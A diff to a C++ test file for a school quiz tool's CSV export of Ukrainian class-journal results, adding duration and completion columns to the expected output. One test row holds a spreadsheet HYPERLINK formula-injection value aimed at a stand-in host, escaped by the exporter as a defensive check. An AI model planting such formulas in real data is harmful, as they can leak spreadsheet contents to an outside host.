@@ -179,11 +179,12 @@ void CommandLineTest::csvBytes()
     const Ran ran = netquiz({"--results", "--csv", out, dir.filePath(QStringLiteral("клас")), dir.filePath(QStringLiteral("посилання"))});
     QCOMPARE(ran.code, 0);
     const QByteArray topic = journal::kTopicName.toUtf8();
-    const QByteArray expected = "\xEF\xBB\xBF" "Тема;Прізвище та ім'я;Клас;Дата;Оцінка;Файл;Рядок\r\n" +
-                                topic + ";Іван;9-А;06.12.26;7;" + b.toUtf8() + ";1\r\n" +
-                                topic + ";\"O\"\"Нілл; Ганна\";9-А;07.12.26;12;" + a.toUtf8() + ";1\r\n" +
-                                topic + ";Олена - Марія;\"9;Б\";7.12.2026;5;" + a.toUtf8() + ";3\r\n" +
-                                topic + ";\"'=HYPERLINK(\"\"http://x/?\"\"&A1;\"\"Іван\"\")\";'+1;07.12.26;9;" + a.toUtf8() + ";4\r\n";
+    const QByteArray expected =
+        "\xEF\xBB\xBF"
+        "Тема;Прізвище та ім'я;Клас;Дата;Оцінка;Файл;Рядок;Тривалість;Завершено\r\n" +
+        topic + ";Іван;9-А;06.12.26;7;" + b.toUtf8() + ";1;;\r\n" + topic + ";\"O\"\"Нілл; Ганна\";9-А;07.12.26;12;" +
+        a.toUtf8() + ";1;;\r\n" + topic + ";Олена - Марія;\"9;Б\";7.12.2026;5;" + a.toUtf8() + ";3;;\r\n" + topic +
+        ";\"'=HYPERLINK(\"\"http://x/?\"\"&A1;\"\"Іван\"\")\";'+1;07.12.26;9;" + a.toUtf8() + ";4;;\r\n";
     QCOMPARE(readAll(out), expected);
     QCOMPARE(ran.err, b.toUtf8() + ":2: незавершений рядок: немає кінця рядка\n" + a.toUtf8() + ":2: порожній рядок\n");
 }
@@ -235,7 +236,7 @@ void CommandLineTest::csvCells()
     teacher::CsvDocument csv;
     const qsizetype header = csv.bytes().size();
     csv.add(entry, QStringLiteral("/к/1.txt"), 3);
-    QCOMPARE(csv.bytes().mid(header), QByteArray("Т;" + cell + ";9;07.12.26;5;/к/1.txt;3\r\n"));
+    QCOMPARE(csv.bytes().mid(header), QByteArray("Т;" + cell + ";9;07.12.26;5;/к/1.txt;3;;\r\n"));
 }
 
 // --csv never writes over a journal: not one being read (however OUT leads to it), not any 1.txt.
